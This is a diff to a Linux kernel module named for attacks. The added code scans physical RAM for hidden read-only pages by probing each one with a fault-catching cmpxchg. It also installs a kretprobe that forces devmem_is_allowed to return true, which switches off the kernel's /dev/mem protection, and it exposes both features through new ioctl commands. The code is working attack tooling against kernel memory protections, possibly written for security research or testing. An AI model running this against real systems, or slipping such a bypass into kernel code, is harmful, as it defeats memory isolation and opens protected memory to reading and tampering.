@@ -6,6 +6,7 @@
 #include <linux/delay.h>
 #include <linux/fs.h>
 #include <linux/ioport.h>
+#include <linux/kprobes.h>
 #include <linux/miscdevice.h>
 #include <linux/mm.h>
 #include <linux/module.h>
@@ -99,6 +100,76 @@ static void scan(struct attack *attack)
 	attack->result = 0;
 	walk_iomem_res_desc(IORES_DESC_NONE, IORESOURCE_SYSTEM_RAM | IORESOURCE_BUSY, 0, -1, attack,
 		scan_range);
+}
+
+/* Writes ones where ones are, which changes nothing: does it fault? */
+static bool is_read_only(u64 *word)
+{
+	u64 ones = ~0UL;
+	int r = 0;
+
+	asm volatile("1:	lock cmpxchg %[new], (%[word])\n"
+		     "	jmp 3f\n"
+		     "2:	mov %[fault], %[r]\n"
+		     "3:\n" _ASM_EXTABLE(1b, 2b)
+		     : [r] "+r"(r), "+a"(ones)
+		     : [word] "r"(word), [new] "r"(~0UL), [fault] "i"(-EFAULT)
+		     : "memory");
+	return r < 0;
+}
+
+static bool is_hidden(u64 at)
+{
+	u64 first, last;
+
+	return read_at(__va(at), &first) == 0 && first == ~0UL &&
+	       read_at(__va(at + PAGE_SIZE - 8), &last) == 0 && last == ~0UL &&
+	       is_read_only(__va(at));
+}
+
+static int find_hidden(struct resource *resource, void *argument)
+{
+	struct attack *attack = argument;
+	u64 at = max_t(u64, PAGE_ALIGN(resource->start), attack->a);
+
+	for (; at + PAGE_SIZE <= resource->end + 1; at += PAGE_SIZE) {
+		if (!is_hidden(at))
+			continue;
+		attack->c = at;
+		attack->result = 1;
+		return 1;
+	}
+	return 0;
+}
+
+static void next_hidden(struct attack *attack)
+{
+	attack->result = 0;
+	walk_iomem_res_desc(IORES_DESC_NONE, IORESOURCE_SYSTEM_RAM | IORESOURCE_BUSY, 0, -1, attack,
+		find_hidden);
+}
+
+/* ---- /dev/mem ---- */
+
+static int allow(struct kretprobe_instance *instance, struct pt_regs *registers)
+{
+	regs_set_return_value(registers, 1);
+	return 0;
+}
+
+static struct kretprobe devmem = {.handler = allow, .kp.symbol_name = "devmem_is_allowed"};
+static bool devmem_is_open;
+
+static int open_devmem(bool open)
+{
+	int r = 0;
+
+	if (open && !devmem_is_open)
+		r = register_kretprobe(&devmem);
+	else if (!open && devmem_is_open)
+		unregister_kretprobe(&devmem);
+	devmem_is_open = open && r == 0;
+	return r;
 }
 
 /* ---- INIT and its like ---- */
@@ -295,6 +366,12 @@ static void carry_out(unsigned int command, struct attack *attack)
 		page[0] = attack->b;
 		page[1] = attack->c;
 		break;
+	case ATTACK_NEXT_HIDDEN:
+		next_hidden(attack);
+		break;
+	case ATTACK_DEVMEM:
+		attack->result = open_devmem(attack->a);
+		break;
 	case ATTACK_DMA_READ:
 	case ATTACK_DMA_WRITE:
 		dma(command, attack);
@@ -337,6 +414,7 @@ static int __init attack_init(void)
 static void __exit attack_exit(void)
 {
 	misc_deregister(&attack_device);
+	open_devmem(false);
 	edu_exit();
 	free_page((unsigned long)page);
 }
